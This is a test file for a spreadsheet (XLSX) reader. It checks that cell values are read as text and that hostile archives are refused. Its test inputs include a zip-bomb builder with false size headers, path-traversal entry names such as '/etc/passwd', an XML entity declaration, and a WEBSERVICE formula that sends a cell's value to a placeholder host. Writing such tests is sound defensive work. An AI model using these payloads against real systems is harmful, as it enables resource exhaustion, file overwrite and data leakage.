import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import writeWorkbook from 'write-excel-file/node';
import { limits } from '../../../src/formats/limits';
import { openArchive } from '../../../src/formats/spreadsheet/openArchive';
import { numberToColumn, readXlsx } from '../../../src/formats/spreadsheet/readXlsx';
import { waitWithin } from '../../workTime';
import { makeWorkbook, textCell, workbookParts } from './makeWorkbook';

async function sheetOf(bytes: Uint8Array) {
  const read = await readXlsx(bytes, 'a.xlsx');
  if (!read.ok) throw new Error(JSON.stringify(read.error));
  return read.value;
}

async function faultOf(bytes: Uint8Array) {
  const read = await readXlsx(bytes, 'a.xlsx');
  if (read.ok) throw new Error('read');
  return read.error;
}

/** An archive with one part that is told to be `declared` bytes long. */
function zipWithDeclared(name: string, content: Uint8Array, declared: number): Uint8Array {
  const packed = deflateRawSync(content);
  const encoded = new TextEncoder().encode(name);
  const local = Buffer.alloc(30 + encoded.length);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(encoded.length, 26);
  local.set(encoded, 30);
  const central = Buffer.alloc(46 + encoded.length);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(encoded.length, 28);
  central.set(encoded, 46);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length + packed.length, 16);
  return Buffer.concat([local, packed, central, end]);
}

describe('an Excel workbook', () => {
  it('is read as text: days, times, numbers, yes and no', async () => {
    const bytes = await writeWorkbook([
      {
        sheet: 'Projects',
        data: [
          ['Name', 'Start', 'At', 'Share', 'On'],
          [
            'Alpha',
            { value: new Date('2027-03-04T00:00:00Z'), type: Date, format: 'yyyy-mm-dd' },
            { value: new Date('2027-03-04T10:30:00Z'), type: Date, format: 'yyyy-mm-dd hh:mm' },
            { value: 0.1 + 0.2, type: Number },
            { value: true, type: Boolean },
          ],
        ],
      },
      { sheet: 'Links', data: [['From', 'To']] },
    ]).toBuffer();
    const sheets = await sheetOf(new Uint8Array(bytes));
    expect(sheets.map((it) => it.sheet)).toEqual(['Projects', 'Links']);
    expect(sheets[0]?.rows[1]).toEqual({
      number: 2,
      cells: ['Alpha', '2027-03-04', '2027-03-04T10:30', '0.3', 'TRUE'],
    });
  });

  it('gives the value that a formula last had, and notes the formula', async () => {
    const row = `<row r="3">${textCell('A3', 'Alpha')}<c r="B3" t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>ok</v></c><c r="C3" t="e"><v>#REF!</v></c></row>`;
    const heading = `<row r="1">${textCell('A1', 'Name')}${textCell('B1', 'Note')}${textCell('C1', 'Team')}</row>`;
    const [sheet] = await sheetOf(makeWorkbook(workbookParts(heading + row)));
    expect(sheet?.rows[1]).toEqual({ number: 3, cells: ['Alpha', 'ok', ''] });
    expect(sheet?.remarks).toEqual([
      { code: 'formula', row: 3, column: 'B' },
      { code: 'errorCell', row: 3, column: 'C' },
    ]);
  });

  it('that unpacks to too much is refused by what it declares', async () => {
    const bomb = zipWithDeclared('xl/worksheets/sheet1.xml', new Uint8Array(1_000), 2_147_483_648);
    expect(await faultOf(bomb)).toMatchObject({
      code: 'unpackedTooLarge',
      file: 'a.xlsx',
      place: 'xl/worksheets/sheet1.xml',
    });
  });

  it('that unpacks to more than it declares is refused while it unpacks', async () => {
    const lie = zipWithDeclared('xl/workbook.xml', new Uint8Array(limits.unpackedBytes + 1_000), 1_000);
    expect((await waitWithin(5_000, () => faultOf(lie))).code).toBe('unpackedTooLarge');
  });

  it.each(['../../../../tmp/evil.txt', '/etc/passwd', 'C:\\evil.txt', 'xl/..\\evil.xml'])(
    'with a part named %s is refused',
    async (name) => {
      const bytes = makeWorkbook({ ...workbookParts(''), [name]: new Uint8Array([1]) });
      expect(await faultOf(bytes)).toMatchObject({ code: 'badArchive', place: name });
    },
  );

  it('with too many parts, too many columns or rows, or a document type, is refused', async () => {
    const parts = Object.fromEntries(
      Array.from({ length: limits.archiveEntries + 1 }, (_, i) => [`${i}.bin`, new Uint8Array()]),
    );
    expect((await faultOf(makeWorkbook(parts))).code).toBe('badArchive');
    const wide = `<row r="1">${textCell('ZZZ1', 'x')}</row>`;
    expect((await faultOf(makeWorkbook(workbookParts(wide)))).code).toBe('tooManyColumns');
    const high = `<row r="1048576">${textCell('A1048576', 'x')}</row>`;
    expect((await faultOf(makeWorkbook(workbookParts(high)))).code).toBe('tooManyRows');
    const typed = {
      ...workbookParts(''),
      'xl/workbook.xml': new TextEncoder().encode('<!DOCTYPE a [<!ENTITY x "y">]><workbook/>'),
    };
    expect((await faultOf(makeWorkbook(typed))).code).toBe('doctype');
  });

  it('that is an archive of something else, or cut off, is refused', async () => {
    expect((await faultOf(makeWorkbook({ 'a.txt': new Uint8Array([1]) }))).code).toBe('notAWorkbook');
    const whole = makeWorkbook(workbookParts(`<row r="1">${textCell('A1', 'Name')}</row>`));
    expect((await faultOf(whole.subarray(0, whole.length - 40))).code).toBe('badArchive');
  });

  it('is read or refused, however it is damaged', async () => {
    const whole = makeWorkbook(
      workbookParts(`<row r="1">${textCell('A1', 'Name')}</row><row r="2">${textCell('A2', 'Alpha')}</row>`),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 8 }),
        async (damages) => {
          const bytes = Uint8Array.from(whole);
          for (const [at, value] of damages) bytes[at] = value;
          const read = await readXlsx(bytes, 'a.xlsx');
          if (!read.ok) expect(read.error.remedy).not.toBe('');
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('an archive', () => {
  it('gives only the parts that are wanted', () => {
    const opened = openArchive(
      makeWorkbook({ 'a.xml': new Uint8Array([65]), 'b.bin': new Uint8Array([66]) }),
      'a.zip',
      (name) => name.endsWith('.xml'),
    );
    expect(opened.ok && [...opened.value]).toEqual([['a.xml', Buffer.from([65])]]);
  });
});

describe('the letters of a column', () => {
  it.each([
    [0, 'A'],
    [25, 'Z'],
    [26, 'AA'],
    [701, 'ZZ'],
    [702, 'AAA'],
  ])('%i is %s', (index, letters) => {
    expect(numberToColumn(index)).toBe(letters);
  });
});
